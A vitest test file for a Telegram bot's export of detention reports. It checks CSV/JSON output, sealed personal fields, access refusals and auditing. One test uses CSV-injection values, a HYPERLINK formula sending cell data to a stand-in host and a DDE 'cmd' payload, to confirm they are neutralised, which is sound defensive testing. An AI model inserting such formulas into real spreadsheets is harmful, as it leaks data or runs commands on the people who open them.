/**
 * /export: the file a documentation lead gets (CSV parsed back with a small
 * RFC 4180 parser, JSON parsed back), the sealed columns only after the
 * confirmation and only for whom they are meant, who is refused, the audit
 * record, and the temp file gone afterwards.
 */
import { mkdtempSync, readdirSync, readFileSync, rmSync } from "node:fs";
import os from "node:os";
import path from "node:path";
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { NO_ALLIANCE, type AllianceConfig } from "../src/config/alliance.js";
import type { Report } from "../src/reports/report.js";
import { buttonsOf, type ApiCall, type UploadedFile } from "./helpers/fake-telegram.js";
import { createTestBot } from "./helpers/harness.js";
import { submit } from "./helpers/sample-report.js";
import { openTestStorage } from "./helpers/test-storage.js";
import { command, groupText, person, press, type Person } from "./helpers/updates.js";

const ADMIN = person(1_000_101, "ru", "Admin");
const DOCUMENTER = person(1_000_102, "kk", "Documenter");
const COORDINATOR = person(1_000_103, "ru", "Coordinator");
const LAWYER = person(1_000_104, "ru", "Lawyer");
const STRANGER = person(1_000_105, "en", "Stranger");
const REGIONAL = person(1_000_106, "ru", "Almaty Documenter");
const REPORTER = 2_000_101;
const GROUP = -100_555;
const alliance: AllianceConfig = { ...NO_ALLIANCE, admins: [ADMIN.id] };

const NAME = "Әсел Қасымова";
const PLACE = "Абай даңғылы, 10";
const TAKEN_TO = "РУВД №5";
const ACCOUNT = 'Он сказал: "стой", потом, не назвавшись,\nувёз её.';
const FILE_ID = "F-export-secret";

let storage: Awaited<ReturnType<typeof openTestStorage>>;
let exportDir: string;
beforeEach(async () => {
  storage = await openTestStorage();
  exportDir = mkdtempSync(path.join(os.tmpdir(), "export-test-"));
});
afterEach(async () => {
  await storage.drop();
  rmSync(exportDir, { recursive: true, force: true });
});

let NOW = Date.now();

async function setup() {
  NOW = Date.now();
  // One clock for the bot and the expected file names, so a run across midnight (UTC) cannot fail.
  const h = createTestBot(storage, { alliance, exportDir, now: () => NOW });
  const lead = (
    who: Person | number,
    sector: "documentation" | "coordinator" | "lawyer",
    scope: "national" | "almaty",
    kind: "person" | "group" = "person",
  ) =>
    storage.leads.add({
      chatId: typeof who === "number" ? who : who.id,
      kind,
      sector,
      scope,
      role: "primary",
      onDuty: true,
      locale: "ru",
      label: "lead",
    });
  await lead(DOCUMENTER, "documentation", "national");
  await lead(REGIONAL, "documentation", "almaty");
  await lead(COORDINATOR, "coordinator", "national");
  await lead(LAWYER, "lawyer", "almaty");
  return { h, lead };
}

/** A named person detained in Almaty (lawyer refused, case closed "released", one photo); a group ill-treated in Atyrau. */
async function seed(): Promise<{ detention: Report; group: Report }> {
  const detention = await submit(storage, REPORTER, {
    name: NAME,
    place: { text: PLACE },
    takenTo: TAKEN_TO,
    account: ACCOUNT,
    evidence: {
      items: [
        { kind: "photo", messageId: 7, fileId: FILE_ID, fileUniqueId: "U-export", size: 10, mime: "image/jpeg", receivedAt: Date.now() },
      ],
      done: true,
    },
  });
  const group = await submit(storage, REPORTER, {
    role: "monitor",
    subject: "group",
    groupSize: "6-20",
    groupMinors: "no",
    groupJournalists: "yes",
    region: "atyrau",
    place: { lat: 47.1, lon: 51.9 },
    alsoIll: "yes",
    illKinds: ["beating", "kettling"],
    injuries: "yes",
    medical: "given",
    medicalBy: "ambulance",
    illBy: "national-guard",
    lifeThreat: "no",
    account: null,
  });
  const now = new Date();
  await storage.cases.open({ code: detention.code, sector: "lawyer", region: "almaty", rank: 1, level: "primary", createdAt: now }, null);
  await storage.cases.close(detention.code, "lawyer", "released", now);
  return { detention, group };
}

/** RFC 4180: quoted fields with doubled quotes and line breaks, CRLF between records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted && c === '"' && text[i + 1] === '"') {
      field += '"';
      i++;
    } else if (quoted && c === '"') quoted = false;
    else if (quoted) field += c;
    else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  if (field || row.length) throw new Error("the last record does not end with CRLF");
  return rows;
}

/** Objects keyed by the header. */
function records(csv: string[][]): Array<Record<string, string>> {
  const [header, ...rows] = csv;
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])));
}

/** The column names in the README's table; `sealedToo` keeps the "sealed only" rows. */
function documentedColumns(sealedToo: boolean): string[] {
  const readme = readFileSync(new URL("../README.md", import.meta.url), "utf8");
  return [...readme.matchAll(/^\| `([a-z0-9_]+)` \| [a-z]+ \| (both|sealed only) \|/gm)]
    .filter((m) => sealedToo || m[2] === "both")
    .map((m) => m[1]!);
}

/** The uploaded file of a sendDocument (grammY attaches it under a random field name). */
const fileOf = (call: ApiCall) =>
  Object.values(call.payload).find((v): v is UploadedFile => typeof v === "object" && v !== null && "bytes" in v)!;

/** /export → 7 days → format → variant (and the confirmation for "sealed"); returns the last document sent. */
async function exportVia(h: Awaited<ReturnType<typeof setup>>["h"], who: Person, format: "csv" | "json", variant: "plain" | "sealed") {
  await h.send(command(who, "export"));
  await h.send(press(who, "ex:p:7d"));
  const formats = buttonsOf(h.telegram.last("editMessageText"));
  await h.send(press(who, formats.find((b) => b.data.endsWith(`:${format}`))!.data));
  const variants = h.telegram.last("editMessageText");
  const chosen = buttonsOf(variants).find((b) => b.data.endsWith(`:${variant}`));
  expect(chosen).toBeDefined();
  await h.send(press(who, chosen!.data));
  if (variant === "sealed") {
    const warning = h.telegram.last("editMessageText");
    await h.send(press(who, buttonsOf(warning).find((b) => b.data.startsWith("ex:ok:"))!.data));
  }
  return h.telegram.last("sendDocument");
}

describe("the export file", () => {
  it("CSV without names and places: BOM, the documented header, a row per report with its values, protected, no sealed value anywhere", async () => {
    const { h } = await setup();
    const { detention, group } = await seed();
    const call = await exportVia(h, ADMIN, "csv", "plain");
    expect(call.payload).toMatchObject({ chat_id: ADMIN.id, protect_content: "true" });
    const file = fileOf(call);
    const today = new Date(NOW).toISOString().slice(0, 10);
    const weekAgo = new Date(NOW - 6 * 86_400_000).toISOString().slice(0, 10);
    expect(file.filename).toBe(`reports-${weekAgo}_${today}.csv`);
    expect([...file.bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = file.bytes.toString("utf8").slice(1);
    for (const secret of [NAME, "Әсел", PLACE, TAKEN_TO, "стой", "47.1", FILE_ID, "U-export", String(REPORTER)])
      expect(text).not.toContain(secret);
    const csv = parseCsv(text);
    expect(csv[0]).toEqual(documentedColumns(false));
    expect(csv[0]).not.toContain("victim_name");
    expect(csv[0]).not.toContain("account");
    const rows = records(csv);
    expect(rows).toHaveLength(2);
    expect(rows.find((r) => r.code === detention.code)).toMatchObject({
      kind: "detention",
      region: "almaty",
      source_role: "witness",
      victim_type: "person",
      victim_age_group: "30-49",
      victim_journalist: "no",
      group_size: "",
      detention: "yes",
      detention_lawyer: "refused",
      detention_protocol: "copy-given",
      detention_relatives_informed: "yes",
      detention_whereabouts_known: "yes",
      detention_authority: "police",
      ill_treatment: "no",
      ill_treatment_kinds: "",
      case_lawyer_status: "closed",
      case_lawyer_outcome: "released",
      case_documentation_status: "",
      evidence_photo: "1",
      evidence_video: "0",
      // The plain file has the hour only (the exact time could single out a self-report).
      submitted_hour: `${detention.submittedAt.slice(0, 13)}:00:00.000Z`,
    });
    expect(rows[0]).not.toHaveProperty("submitted_at");
    expect(rows[0]).not.toHaveProperty("event_at");
    expect(text).not.toContain(detention.submittedAt);
    expect(rows.find((r) => r.code === group.code)).toMatchObject({
      kind: "both",
      region: "atyrau",
      source_role: "monitor",
      victim_type: "group",
      victim_age_group: "",
      group_size: "6-20",
      group_journalists: "yes",
      ill_treatment: "yes",
      ill_treatment_kinds: "beating;kettling",
      injuries_visible: "yes",
      medical_help: "given",
      medical_help_by: "ambulance",
      ill_treatment_by: "national-guard",
      evidence_photo: "0",
    });
  });

  it("with the sealed fields after the confirmation: a Kazakh name, the place and an account with a comma, quotes and a line break survive", async () => {
    const { h } = await setup();
    const { detention, group } = await seed();
    const call = await exportVia(h, DOCUMENTER, "csv", "sealed");
    expect(call.payload).toMatchObject({ chat_id: DOCUMENTER.id, protect_content: "true" });
    expect(call.payload.caption).toContain("шифрланған түрде сақтап");
    const text = fileOf(call).bytes.toString("utf8");
    expect(text.startsWith("\uFEFF")).toBe(true);
    const csv = parseCsv(text.slice(1));
    expect(csv[0]).toEqual(documentedColumns(true));
    const rows = records(csv);
    expect(rows.find((r) => r.code === detention.code)).toMatchObject({
      victim_name: NAME,
      place_text: PLACE,
      place_lat: "",
      detention_taken_to: TAKEN_TO,
      account: ACCOUNT,
    });
    expect(rows.find((r) => r.code === group.code)).toMatchObject({ victim_name: "", place_lat: "47.1", place_lon: "51.9", account: "" });
    for (const never of [FILE_ID, "U-export", String(REPORTER)]) expect(text).not.toContain(never);
  });

  it("text a spreadsheet would run as a formula is kept as text in the CSV (a leading apostrophe), and as typed in the JSON", async () => {
    const { h } = await setup();
    const formula = '=HYPERLINK("https://x.example/?"&B2,"Подробнее")';
    const report = await submit(storage, REPORTER, {
      name: "@someone",
      place: { text: "-1 этаж" },
      takenTo: "+cmd|' /C calc'!A0",
      account: formula,
    });
    const row = records(
      parseCsv(
        fileOf(await exportVia(h, DOCUMENTER, "csv", "sealed"))
          .bytes.toString("utf8")
          .slice(1),
      ),
    ).find((r) => r.code === report.code);
    expect(row).toMatchObject({
      victim_name: "'@someone",
      place_text: "'-1 этаж",
      detention_taken_to: "'+cmd|' /C calc'!A0",
      account: `'${formula}`,
    });
    const json = JSON.parse(fileOf(await exportVia(h, DOCUMENTER, "json", "sealed")).bytes.toString("utf8")) as Array<
      Record<string, unknown>
    >;
    expect(json.find((r) => r.code === report.code)).toMatchObject({ victim_name: "@someone", account: formula });
  });

  it("JSON (an array of objects) holds the same rows as the CSV", async () => {
    const { h } = await setup();
    await seed();
    const csv = records(
      parseCsv(
        fileOf(await exportVia(h, ADMIN, "csv", "sealed"))
          .bytes.toString("utf8")
          .slice(1),
      ),
    );
    const call = await exportVia(h, ADMIN, "json", "sealed");
    expect(fileOf(call).filename).toMatch(/^reports-\d{4}-\d{2}-\d{2}_\d{4}-\d{2}-\d{2}\.json$/);
    const json = JSON.parse(fileOf(call).bytes.toString("utf8")) as Array<Record<string, string | number | null>>;
    expect(json.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, v === null ? "" : String(v)])))).toEqual(csv);
    expect(json.find((row) => row.victim_name === NAME)?.evidence_photo).toBe(1);
  });

  it("an empty period answers politely, with no file; the temp files are gone after every export", async () => {
    const { h } = await setup();
    await h.send(command(ADMIN, "export", "01.01.2024–05.01.2024"));
    await h.send(press(ADMIN, buttonsOf(h.telegram.last("sendMessage")).find((b) => b.data.endsWith(":csv"))!.data));
    await h.send(press(ADMIN, "ex:v:20240101:20240105:csv:plain"));
    expect(h.telegram.last("sendMessage").payload.text).toBe("С 2024-01-01 по 2024-01-05 обращений нет: выгружать нечего.");
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
    await seed();
    await exportVia(h, ADMIN, "csv", "plain");
    await exportVia(h, DOCUMENTER, "json", "sealed");
    expect(h.telegram.callsOf("sendDocument")).toHaveLength(2);
    expect(readdirSync(exportDir)).toEqual([]);
  });
  it("when Telegram refuses the file, the temp file is gone all the same; the attempt stays in the audit trail", async () => {
    const { h } = await setup();
    await seed();
    h.telegram.responder = ({ method }) =>
      method === "sendDocument" ? { ok: false, error_code: 400, description: "Bad Request: file is too big" } : undefined;
    await exportVia(h, DOCUMENTER, "csv", "sealed");
    expect(readdirSync(exportDir)).toEqual([]);
    expect((await storage.audit.forCode("exports")).map((e) => e.detail.export?.sealed)).toEqual([true]);
  });

  it("an export that cannot be recorded is not sent, and the person is told", async () => {
    const { h } = await setup();
    await seed();
    vi.spyOn(storage.audit, "record").mockRejectedValueOnce(new Error("database down"));
    await h.send(command(ADMIN, "export"));
    await h.send(press(ADMIN, "ex:p:7d"));
    await h.send(press(ADMIN, buttonsOf(h.telegram.last("editMessageText")).find((b) => b.data.endsWith(":csv"))!.data));
    await h.send(press(ADMIN, buttonsOf(h.telegram.last("editMessageText")).find((b) => b.data.endsWith(":plain"))!.data));
    expect(h.telegram.last("sendMessage").payload.text).toBe(
      "Выгрузку не удалось записать в журнал действий, поэтому файл не отправлен. Попробуйте ещё раз через несколько минут.",
    );
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
    expect(readdirSync(exportDir)).toEqual([]);
  });
});

describe("who may export what", () => {
  const SEALED_REFUSED =
    "Выгрузка с именами, местами и рассказами доступна только ответственным сектора документирования и администраторам, в личном чате с ботом.";

  it("the coordinator gets the plain variant only; a forged sealed button is refused and sends nothing", async () => {
    const { h } = await setup();
    await seed();
    await h.send(command(COORDINATOR, "export"));
    await h.send(press(COORDINATOR, "ex:p:30d"));
    const format = buttonsOf(h.telegram.last("editMessageText")).find((b) => b.data.endsWith(":csv"))!;
    await h.send(press(COORDINATOR, format.data));
    const variants = buttonsOf(h.telegram.last("editMessageText"));
    expect(variants.map((b) => b.text)).toEqual(["Без имён и мест"]);
    const [, , from, to] = format.data.split(":");
    for (const forged of [`ex:v:${from}:${to}:csv:sealed`, `ex:ok:${from}:${to}:csv`]) {
      await h.send(press(COORDINATOR, forged));
      expect(h.telegram.last("answerCallbackQuery").payload).toMatchObject({ text: SEALED_REFUSED, show_alert: true });
    }
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
    await h.send(press(COORDINATOR, variants[0]!.data));
    expect(h.telegram.callsOf("sendDocument")).toHaveLength(1);
    expect(fileOf(h.telegram.last("sendDocument")).bytes.toString("utf8")).not.toContain(NAME);
  });

  it("the sealed variant shows a warning of what the file holds, in the person's language, before anything is sent", async () => {
    const { h } = await setup();
    await seed();
    await h.send(command(DOCUMENTER, "export"));
    await h.send(press(DOCUMENTER, "ex:p:7d"));
    await h.send(press(DOCUMENTER, buttonsOf(h.telegram.last("editMessageText")).find((b) => b.data.endsWith(":json"))!.data));
    const variants = buttonsOf(h.telegram.last("editMessageText"));
    expect(variants.map((b) => b.text)).toEqual(["Аты-жөні мен орнынсыз", "Аты-жөні, орны және баяндамасымен"]);
    await h.send(press(DOCUMENTER, variants[1]!.data));
    const warning = String(h.telegram.last("editMessageText").payload.text);
    expect(warning).toContain("адамдардың аты-жөні, орындар мен координаттар");
    expect(warning).toContain("тек шифрланған түрде сақтаңыз");
    expect(warning).toContain("пайдаланған соң бірден өшіріңіз");
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
  });

  it("a regional documentation lead exports the reports of their region only, sealed fields included", async () => {
    const { h } = await setup();
    const { detention, group } = await seed();
    const call = await exportVia(h, REGIONAL, "csv", "sealed");
    expect(String(call.payload.caption)).toContain("Алматы");
    const rows = records(parseCsv(fileOf(call).bytes.toString("utf8").slice(1)));
    expect(rows.map((r) => r.code)).toEqual([detention.code]);
    expect(rows[0]!.victim_name).toBe(NAME);
    expect(fileOf(call).bytes.toString("utf8")).not.toContain(group.code);
    const [entry] = await storage.audit.forCode("exports");
    expect(entry!.detail.export).toMatchObject({ sealed: true, rows: 1, regions: ["almaty"] });
  });

  it("the national coordinator who also documents Almaty gets the country's reports without names, and Almaty's only with them", async () => {
    const { h, lead } = await setup();
    const { detention, group } = await seed();
    await lead(COORDINATOR, "documentation", "almaty");
    const plain = records(
      parseCsv(
        fileOf(await exportVia(h, COORDINATOR, "csv", "plain"))
          .bytes.toString("utf8")
          .slice(1),
      ),
    );
    expect(plain.map((r) => r.code).sort()).toEqual([detention.code, group.code].sort());
    const call = await exportVia(h, COORDINATOR, "csv", "sealed");
    expect(String(call.payload.caption)).toContain("Алматы");
    const text = fileOf(call).bytes.toString("utf8");
    expect(records(parseCsv(text.slice(1))).map((r) => r.code)).toEqual([detention.code]);
    expect(text).not.toContain(group.code);
    const sealedEntry = (await storage.audit.forCode("exports")).find((entry) => entry.detail.export?.sealed);
    expect(sealedEntry!.detail.export).toMatchObject({ rows: 1, regions: ["almaty"] });
  });

  it("a regional lawyer lead and a stranger are refused politely, at the command and at a press; a removed lead's old button exports nothing", async () => {
    const { h } = await setup();
    await seed();
    const refusedRu = "Выгрузка доступна администраторам, национальному координатору и ответственным сектора документирования.";
    await h.send(command(LAWYER, "export"));
    expect(h.telegram.last("sendMessage").payload).toMatchObject({ chat_id: LAWYER.id, text: refusedRu });
    await h.send(press(LAWYER, "ex:v:20260101:20260105:csv:plain"));
    expect(h.telegram.last("answerCallbackQuery").payload).toMatchObject({ text: refusedRu, show_alert: true });
    await h.send(command(STRANGER, "export"));
    expect(h.telegram.last("sendMessage").payload.text).toBe(
      "Exports are for the admins, the national coordinator and the documentation sector's leads.",
    );
    // The documentation lead is removed; the buttons they still have do nothing.
    await h.send(command(DOCUMENTER, "export"));
    const [lead] = await storage.leads.byChat(DOCUMENTER.id);
    await storage.leads.remove(lead!.id);
    await h.send(press(DOCUMENTER, "ex:p:7d"));
    expect(h.telegram.last("answerCallbackQuery").payload.text).toBe(
      "Жүктеп алу әкімшілерге, ұлттық үйлестірушіге және құжаттау секторының жауаптыларына ғана қолжетімді.",
    );
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
  });

  it("in a group: refused unless the group is itself a documentation lead; even then, never the sealed variant", async () => {
    const { h, lead } = await setup();
    await seed();
    await h.send(groupText(DOCUMENTER, GROUP, "/export"));
    expect(h.telegram.last("sendMessage").payload.text).toContain("құжаттау секторының жауаптыларына ғана");
    await lead(GROUP, "documentation", "national", "group");
    await h.send(groupText(DOCUMENTER, GROUP, "/export 01.11–15.11"));
    const format = buttonsOf(h.telegram.last("sendMessage")).find((b) => b.data.endsWith(":csv"))!;
    const pressInGroup = (data: string) => {
      const update = press(DOCUMENTER, data);
      (update.callback_query!.message as { chat: object }).chat = { id: GROUP, type: "group", title: "Docs" };
      return update;
    };
    await h.send(pressInGroup(format.data));
    expect(buttonsOf(h.telegram.last("editMessageText")).map((b) => b.data)).toEqual([expect.stringMatching(/:plain$/)]);
    const [, , from, to] = format.data.split(":");
    await h.send(pressInGroup(`ex:ok:${from}:${to}:csv`));
    expect(String(h.telegram.last("answerCallbackQuery").payload.text)).toContain("ботпен жеке чатта ғана");
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
  });

  it("garbled, forged and impossible periods get the out-of-date answer", async () => {
    const { h } = await setup();
    for (const data of ["ex:p:1y", "ex:v:20261301:20261302:csv:plain", "ex:v:20260101:20260601:csv:plain", "ex:f:20260105:20260101:csv"]) {
      await h.send(press(ADMIN, data));
      expect(h.telegram.last("answerCallbackQuery").payload).toMatchObject({
        text: "Эта кнопка устарела. Отправьте /export ещё раз.",
        show_alert: true,
      });
    }
    expect(h.telegram.callsOf("sendDocument")).toEqual([]);
  });
});

describe("the audit of exports", () => {
  it("records who exported what, for both variants; admins read it with /audit exports; the log has counts only", async () => {
    const { h } = await setup();
    await seed();
    await exportVia(h, ADMIN, "csv", "plain");
    await exportVia(h, DOCUMENTER, "json", "sealed");
    // The choice screen lost its buttons when the file was made: no second press sends it again.
    const screen = h.telegram.last("editMessageText");
    expect(String(screen.payload.text)).toMatch(/^\d{4}-\d{2}-\d{2} – \d{4}-\d{2}-\d{2} аралығының файлын дайындап жатырмын…$/);
    expect(buttonsOf(screen)).toEqual([]);
    await exportVia(h, REGIONAL, "csv", "plain");
    const entries = await storage.audit.forCode("exports");
    expect(entries.map((e) => ({ action: e.action, actor: e.actor.id, export: e.detail.export }))).toEqual([
      { action: "exported", actor: ADMIN.id, export: expect.objectContaining({ format: "csv", sealed: false, rows: 2 }) },
      { action: "exported", actor: DOCUMENTER.id, export: expect.objectContaining({ format: "json", sealed: true, rows: 2 }) },
      { action: "exported", actor: REGIONAL.id, export: expect.objectContaining({ rows: 1, regions: ["almaty"] }) },
    ]);
    await h.send(command(ADMIN, "audit", "exports"));
    const read = String(h.telegram.last("sendMessage").payload.text);
    expect(read).toContain("Выгрузки (время Казахстана):");
    expect(read).toMatch(
      /Admin \(id 1000101, личный чат\): выгрузил\(а\) обращения за \d{4}-\d{2}-\d{2} – \d{4}-\d{2}-\d{2}, CSV, без имён и мест: строк 2/,
    );
    expect(read).toContain("JSON, с именами, местами и рассказами: строк 2");
    // Regions in the reader's language, as the caption names them.
    expect(read).toContain("CSV, без имён и мест · Алматы: строк 1");
    // A lead is not an admin: /audit stays the admins'.
    await h.send(command(DOCUMENTER, "audit", "exports"));
    expect(String(h.telegram.last("sendMessage").payload.text)).not.toContain("Жүктеп алулар");
    const logged = h.logLines.filter((line) => line.includes("export sent"));
    expect(logged).toHaveLength(3);
    for (const line of logged)
      for (const never of [NAME, String(ADMIN.id), String(DOCUMENTER.id), "Admin"]) expect(line).not.toContain(never);
  });
});
